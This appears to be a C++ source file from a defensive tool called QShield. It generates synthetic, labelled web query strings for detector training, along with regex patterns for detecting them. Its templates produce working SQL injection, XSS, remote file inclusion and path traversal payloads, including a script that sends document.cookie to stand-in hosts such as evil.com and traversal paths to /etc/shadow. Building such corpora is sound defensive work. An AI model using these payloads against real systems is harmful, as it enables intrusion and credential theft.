// Copyright 2026 The QShield Authors. All Rights Reserved.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "qshield/synthetic.hpp"

#include <algorithm>
#include <cctype>
#include <cstdio>
#include <regex>

#include "qshield/error.hpp"
#include "qshield/random.hpp"

namespace qshield {

namespace {

constexpr std::array kFamilies = {
    Family::kBenignParams,  Family::kSqliTautology,   Family::kSqliUnion,
    Family::kSqliStacked,   Family::kSqliTimeBlind,   Family::kXssScriptTag,
    Family::kXssEventHandler, Family::kXssJsUri,      Family::kRfiRemoteUrl,
    Family::kRfiWrapper,    Family::kDtDotDot,        Family::kDtEncoded,
};

constexpr std::int64_t kBaseTimestamp = 1546300800;  // 2019-01-01T00:00:00Z

const std::vector<std::string> kKeys = {
    "id",    "page",  "q",      "search", "user",  "name",   "lang",  "sort",
    "order", "limit", "offset", "cat",    "ref",   "sid",    "view",  "mode",
    "type",  "item",  "pid",    "year",   "month", "color",  "size",  "city",
    "tab",   "filter", "format", "query", "file",  "url",    "path",  "redirect",
    "doc",   "include", "template", "action", "uid", "token", "keyword", "next"};

const std::vector<std::string> kWords = {
    "home",   "news",    "about",  "contact", "shoes",  "books",  "music", "admin",
    "report", "summer",  "london", "paris",   "blue",   "red",    "large", "small",
    "alice",  "bob",     "carol",  "select",  "union",  "script", "order", "update",
    "image",  "profile", "search", "cart",    "invoice", "guest", "delay", "http"};

const std::vector<std::string> kTables = {"users", "accounts", "admin", "members",
                                          "orders", "customers", "passwd", "logins"};
const std::vector<std::string> kColumns = {"username", "password", "email", "pass",
                                           "user", "hash", "login", "name"};
const std::vector<std::string> kHosts = {"evil.com", "attacker.net", "198.51.100.7",
                                         "203.0.113.9", "x.ru", "pwn.example.org",
                                         "cdn-evil.io", "10.0.0.66"};
const std::vector<std::string> kShells = {"shell", "c99", "r57", "cmd", "backdoor",
                                          "wso", "b374k", "x"};
const std::vector<std::string> kTargets = {
    "etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini",
    "boot.ini", "var/log/apache2/access.log", "etc/issue"};

class Builder {
 public:
  explicit Builder(Rng& rng) : rng_(rng) {}

  template <typename T>
  const T& pick(const std::vector<T>& v) {
    return v[rng_.below(v.size())];
  }

  std::size_t num(std::size_t lo, std::size_t hi) { return lo + rng_.below(hi - lo + 1); }

  std::string alnum(std::size_t lo, std::size_t hi) {
    static constexpr std::string_view kChars =
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
    std::string s(num(lo, hi), 'a');
    for (char& c : s) c = kChars[rng_.below(kChars.size())];
    return s;
  }

  std::string value() {
    switch (rng_.below(4)) {
      case 0: return std::to_string(num(0, 99999));
      case 1: return pick(kWords);
      case 2: return pick(kWords) + std::to_string(num(1, 99));
      default: return alnum(1, 12);
    }
  }

  std::string pair() { return pick(kKeys) + "=" + value(); }

  // Random-case a keyword, e.g. "select" -> "SeLeCt", for some samples.
  std::string kw(std::string word) {
    const auto style = rng_.below(3);
    for (char& c : word) {
      const bool upper = style == 0 || (style == 2 && rng_.bernoulli(0.5));
      c = upper ? static_cast<char>(std::toupper(static_cast<unsigned char>(c)))
                : static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    }
    return word;
  }

  std::string space() { return rng_.bernoulli(0.8) ? " " : (rng_.bernoulli(0.5) ? "+" : "/**/"); }

  std::string comment() {
    switch (rng_.below(3)) {
      case 0: return "-- ";
      case 1: return "#";
      default: return "--";
    }
  }

  std::string dotdots(std::string_view sep_token) {
    std::string s;
    const auto depth = num(2, 8);
    for (std::size_t i = 0; i < depth; ++i) s += sep_token;
    return s;
  }

  // Embeds a payload as one parameter among benign ones.
  std::string in_context(const std::string& payload) {
    std::string s;
    const auto before = num(0, 2);
    for (std::size_t i = 0; i < before; ++i) s += pair() + "&";
    s += pick(kKeys) + "=" + payload;
    if (rng_.bernoulli(0.5)) s += "&" + pair();
    return s;
  }

  std::string benign() {
    std::string s = pair();
    const auto extra = num(0, 4);
    for (std::size_t i = 0; i < extra; ++i) s += "&" + pair();
    return s;
  }

  std::string sqli_tautology() {
    const auto n = std::to_string(num(1, 999));
    const auto a = std::to_string(num(0, 9));
    const auto w = pick(kWords);
    // "&&" arrives percent-encoded in a query string.
    const std::string conj = rng_.bernoulli(0.25) ? std::string("%26%26") : kw("or");
    switch (rng_.below(5)) {
      case 0: return n + "'" + space() + conj + space() + "'" + a + "'='" + a;
      case 1: return n + "'" + space() + conj + space() + a + "=" + a + comment();
      case 2: return n + space() + conj + space() + a + "=" + a;
      case 3: return "'" + space() + conj + space() + "'" + w + "'='" + w;
      default: return n + "')" + space() + conj + space() + "('" + a + "'='" + a;
    }
  }

  std::string sqli_union() {
    const auto n = std::to_string(num(1, 999));
    std::string cols;
    const auto ncols = num(1, 4);
    for (std::size_t i = 0; i < ncols; ++i) {
      if (i) cols += ",";
      cols += rng_.bernoulli(0.5) ? pick(kColumns) : (rng_.bernoulli(0.5) ? kw("null") : std::to_string(i + 1));
    }
    const std::string sel = kw("union") + space() + (rng_.bernoulli(0.3) ? kw("all") + space() : "") +
                            kw("select") + space() + cols;
    const std::string from = space() + kw("from") + space() + pick(kTables);
    switch (rng_.below(3)) {
      case 0: return n + "'" + space() + sel + from + comment();
      case 1: return "-" + n + space() + sel + from;
      default: return n + "')" + space() + sel + comment();
    }
  }

  std::string sqli_stacked() {
    const auto n = std::to_string(num(1, 999));
    const auto t = pick(kTables);
    const std::string q = rng_.bernoulli(0.6) ? "'" : "";
    switch (rng_.below(4)) {
      case 0: return n + q + ";" + space() + kw("drop") + space() + kw("table") + space() + t + ";" + comment();
      case 1:
        return n + q + ";" + space() + kw("update") + space() + t + space() + kw("set") + space() +
               pick(kColumns) + "='" + alnum(3, 8) + "'" + comment();
      case 2: return n + q + ";" + space() + kw("exec") + space() + "xp_cmdshell('" + pick(kWords) + "')" + comment();
      default:
        return n + q + ";" + space() + kw("delete") + space() + kw("from") + space() + t + comment();
    }
  }

  std::string sqli_time_blind() {
    const auto n = std::to_string(num(1, 999));
    const auto s = std::to_string(num(1, 15));
    const std::string conj = rng_.bernoulli(0.3) ? std::string("%26%26") : kw("and");
    switch (rng_.below(4)) {
      case 0: return n + "'" + space() + conj + space() + kw("sleep") + "(" + s + ")" + comment();
      case 1: return n + ";" + space() + kw("waitfor") + space() + kw("delay") + space() + "'0:0:" + s + "'" + comment();
      case 2:
        return n + "'" + space() + conj + space() + kw("benchmark") + "(" + std::to_string(num(1, 9)) +
               "000000," + kw("md5") + "(" + n + "))#";
      default: return n + space() + conj + space() + kw("pg_sleep") + "(" + s + ")";
    }
  }

  std::string xss_script_tag() {
    const auto n = std::to_string(num(1, 999));
    const std::string open = "<" + kw("script") + ">";
    const std::string close = "</" + kw("script") + ">";
    switch (rng_.below(5)) {
      case 4:
        return "%26lt;" + kw("script") + "%26gt;" + kw("alert") + "(" + n + ")%26lt;/" + kw("script") + "%26gt;";
      case 0: return open + kw("alert") + "(" + n + ")" + close;
      case 1: return "<" + kw("script") + " src=http://" + pick(kHosts) + "/" + alnum(1, 6) + ".js>" + close;
      case 2: return "\">" + open + "document.location='http://" + pick(kHosts) + "/?c='+document.cookie" + close;
      default: return open + kw("alert") + "(String.fromCharCode(88,83,83))" + close;
    }
  }

  std::string xss_event_handler() {
    const auto n = std::to_string(num(1, 999));
    const std::string call = pick(std::vector<std::string>{"alert", "prompt", "confirm"}) + "(" + n + ")";
    switch (rng_.below(6)) {
      case 5: return "<" + kw("img") + " src=x " + kw("onerror") + "=%26%23" + std::to_string(num(97, 122)) + ";" + call + ">";
      case 0: return "<" + kw("img") + " src=x " + kw("onerror") + "=" + call + ">";
      case 1: return "<" + kw("body") + " " + kw("onload") + "=" + call + ">";
      case 2: return "<" + kw("svg") + " " + kw("onload") + "=" + call + ">";
      case 3: return "\" " + kw("onmouseover") + "=\"" + call;
      default: return "<" + kw("input") + " " + kw("onfocus") + "=" + call + " autofocus>";
    }
  }

  std::string xss_js_uri() {
    const auto n = std::to_string(num(1, 999));
    switch (rng_.below(3)) {
      case 0: return kw("javascript") + ":" + kw("alert") + "(" + n + ")";
      case 1: return kw("javascript") + ":document.location='http://" + pick(kHosts) + "/'";
      default: return "<a href=\"" + kw("javascript") + ":" + kw("eval") + "('" + pick(kWords) + "')\">" + pick(kWords) + "</a>";
    }
  }

  std::string rfi_remote_url() {
    const std::string scheme = pick(std::vector<std::string>{"http", "https", "ftp"});
    std::string path;
    const auto dirs = num(0, 2);
    for (std::size_t i = 0; i < dirs; ++i) path += pick(kWords) + "/";
    const std::string ext = pick(std::vector<std::string>{"txt", "php", "jpg", "gif"});
    std::string url = scheme + "://" + pick(kHosts) + "/" + path + pick(kShells) + "." + ext;
    switch (rng_.below(4)) {
      case 0: return url + "?";
      case 1: return url + "%00";
      case 2: return url + "?" + pick(kKeys) + "%3D" + pick(kWords) + "%26" + pick(kKeys) + "%3D";
      default: return url;
    }
  }

  std::string rfi_wrapper() {
    switch (rng_.below(4)) {
      case 0: return "php://input";
      case 1: return "php://filter/convert.base64-encode/resource=" + pick(kWords) + ".php";
      case 2: return "data://text/plain;base64," + alnum(8, 24);
      default: return "expect://" + pick(std::vector<std::string>{"id", "ls", "whoami", "uname"});
    }
  }

  std::string dt_dotdot() {
    const auto target = pick(kTargets);
    switch (rng_.below(4)) {
      case 0: return dotdots("../") + target;
      case 1: {
        std::string win = target;
        for (char& c : win) if (c == '/') c = '\\';
        return dotdots("..\\") + win;
      }
      case 2: return dotdots("....//") + target;
      default: return "/" + pick(kWords) + "/" + dotdots("../") + target;
    }
  }

  std::string dt_encoded() {
    const auto target = pick(kTargets);
    switch (rng_.below(5)) {
      case 0: return dotdots("%2e%2e%2f") + target;
      case 1: return dotdots("..%2f") + target;
      case 2: return dotdots("%252e%252e%252f") + target;
      case 3: return dotdots("..%c0%af") + target;
      default: return dotdots("%2e%2e%5c") + target;
    }
  }

  std::string make(Family family) {
    switch (family) {
      case Family::kBenignParams: return benign();
      case Family::kSqliTautology: return in_context(sqli_tautology());
      case Family::kSqliUnion: return in_context(sqli_union());
      case Family::kSqliStacked: return in_context(sqli_stacked());
      case Family::kSqliTimeBlind: return in_context(sqli_time_blind());
      case Family::kXssScriptTag: return in_context(xss_script_tag());
      case Family::kXssEventHandler: return in_context(xss_event_handler());
      case Family::kXssJsUri: return in_context(xss_js_uri());
      case Family::kRfiRemoteUrl: return in_context(rfi_remote_url());
      case Family::kRfiWrapper: return in_context(rfi_wrapper());
      case Family::kDtDotDot: return in_context(dt_dotdot());
      case Family::kDtEncoded: return in_context(dt_encoded());
    }
    return {};
  }

 private:
  Rng& rng_;
};

std::string make_id(std::string_view prefix, std::size_t i) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "%06zu", i);
  return std::string(prefix) + "-" + buf;
}

}  // namespace

std::span<const Family> all_families() { return kFamilies; }

Label family_label(Family family) {
  switch (family) {
    case Family::kBenignParams: return Label::kBenign;
    case Family::kSqliTautology:
    case Family::kSqliUnion:
    case Family::kSqliStacked:
    case Family::kSqliTimeBlind: return Label::kSqli;
    case Family::kXssScriptTag:
    case Family::kXssEventHandler:
    case Family::kXssJsUri: return Label::kXss;
    case Family::kRfiRemoteUrl:
    case Family::kRfiWrapper: return Label::kRfi;
    case Family::kDtDotDot:
    case Family::kDtEncoded: return Label::kDt;
  }
  return Label::kBenign;
}

std::string_view family_name(Family family) {
  switch (family) {
    case Family::kBenignParams: return "benign-params";
    case Family::kSqliTautology: return "sqli-tautology";
    case Family::kSqliUnion: return "sqli-union";
    case Family::kSqliStacked: return "sqli-stacked";
    case Family::kSqliTimeBlind: return "sqli-time-blind";
    case Family::kXssScriptTag: return "xss-script-tag";
    case Family::kXssEventHandler: return "xss-event-handler";
    case Family::kXssJsUri: return "xss-js-uri";
    case Family::kRfiRemoteUrl: return "rfi-remote-url";
    case Family::kRfiWrapper: return "rfi-wrapper";
    case Family::kDtDotDot: return "dt-dotdot";
    case Family::kDtEncoded: return "dt-encoded";
  }
  return "unknown";
}

std::optional<Family> parse_family(std::string_view name) {
  for (Family f : kFamilies) {
    if (family_name(f) == name) return f;
  }
  return std::nullopt;
}

Corpus generate_synthetic(const ClassCounts& counts, std::uint64_t seed,
                          std::span<const Family> excluded) {
  Rng rng(seed);
  Builder builder(rng);
  Corpus corpus;
  std::size_t serial = 0;
  for (Label label : kAllLabels) {
    std::vector<Family> allowed;
    for (Family f : kFamilies) {
      if (family_label(f) != label) continue;
      if (std::find(excluded.begin(), excluded.end(), f) != excluded.end()) continue;
      allowed.push_back(f);
    }
    const std::size_t n = counts[label_index(label)];
    if (n > 0 && allowed.empty()) {
      throw Error(ErrorCode::kConfig,
                  "every family of class " + std::string(label_name(label)) + " is excluded");
    }
    const std::string prefix = "syn-" + std::string(label_name(label));
    for (std::size_t i = 0; i < n; ++i) {
      const Family f = allowed[rng.below(allowed.size())];
      corpus.push_back({make_id(prefix, i), builder.make(f), label, SampleSource::kSeed,
                        format_rfc3339(kBaseTimestamp + static_cast<std::int64_t>(serial++))});
    }
  }
  return corpus;
}

Corpus generate_family(Family family, std::size_t count, std::uint64_t seed,
                       std::string_view id_prefix) {
  Rng rng(seed);
  Builder builder(rng);
  Corpus corpus;
  for (std::size_t i = 0; i < count; ++i) {
    corpus.push_back({make_id(id_prefix, i), builder.make(family), family_label(family),
                      SampleSource::kSeed,
                      format_rfc3339(kBaseTimestamp + static_cast<std::int64_t>(i))});
  }
  return corpus;
}

bool matches_family(std::string_view text, Family family) {
  using std::regex;
  constexpr auto icase = regex::ECMAScript | regex::icase;
  static const regex benign("^[A-Za-z0-9]+=[A-Za-z0-9]+(&[A-Za-z0-9]+=[A-Za-z0-9]+)*$");
  static const regex tautology(R"(('|\d)\)?(\s|\+|/\*\*/)(or|%26%26)(\s|\+|/\*\*/)\(?'?(\w+)'?=)", icase);
  static const regex union_select(R"(union(\s|\+|/\*\*/)(all(\s|\+|/\*\*/))?select)", icase);
  static const regex stacked(R"(;(\s|\+|/\*\*/)(drop|update|exec|delete)(\s|\+|/\*\*/))", icase);
  static const regex time_blind(R"((sleep\(|waitfor(\s|\+|/\*\*/)delay|benchmark\(|pg_sleep\())",
                                icase);
  static const regex script_tag(R"((<|%26lt;)script[ >%].*(</|%26lt;/)script)", icase);
  static const regex event_handler(R"(\son(error|load|mouseover|focus)=)", icase);
  static const regex js_uri(R"(javascript:)", icase);
  static const regex remote_url(R"((https?|ftp)://[^/&]+/([A-Za-z0-9]+/)*[A-Za-z0-9]+\.(txt|php|jpg|gif))",
                                icase);
  static const regex wrapper(R"((php|data|expect)://)", icase);
  static const regex dotdot(R"((\.\./|\.\.\\|\.\.\.\.//){2,})");
  static const regex encoded(R"((%2e%2e%2f|\.\.%2f|%252e%252e%252f|\.\.%c0%af|%2e%2e%5c){2,})",
                             icase);

  const std::string s(text);
  switch (family) {
    case Family::kBenignParams: return std::regex_match(s, benign);
    case Family::kSqliTautology: return std::regex_search(s, tautology);
    case Family::kSqliUnion: return std::regex_search(s, union_select);
    case Family::kSqliStacked: return std::regex_search(s, stacked);
    case Family::kSqliTimeBlind: return std::regex_search(s, time_blind);
    case Family::kXssScriptTag: return std::regex_search(s, script_tag);
    case Family::kXssEventHandler: return std::regex_search(s, event_handler);
    case Family::kXssJsUri: return std::regex_search(s, js_uri);
    case Family::kRfiRemoteUrl: return std::regex_search(s, remote_url);
    case Family::kRfiWrapper: return std::regex_search(s, wrapper);
    case Family::kDtDotDot: return std::regex_search(s, dotdot);
    case Family::kDtEncoded: return std::regex_search(s, encoded);
  }
  return false;
}

}  // namespace qshield
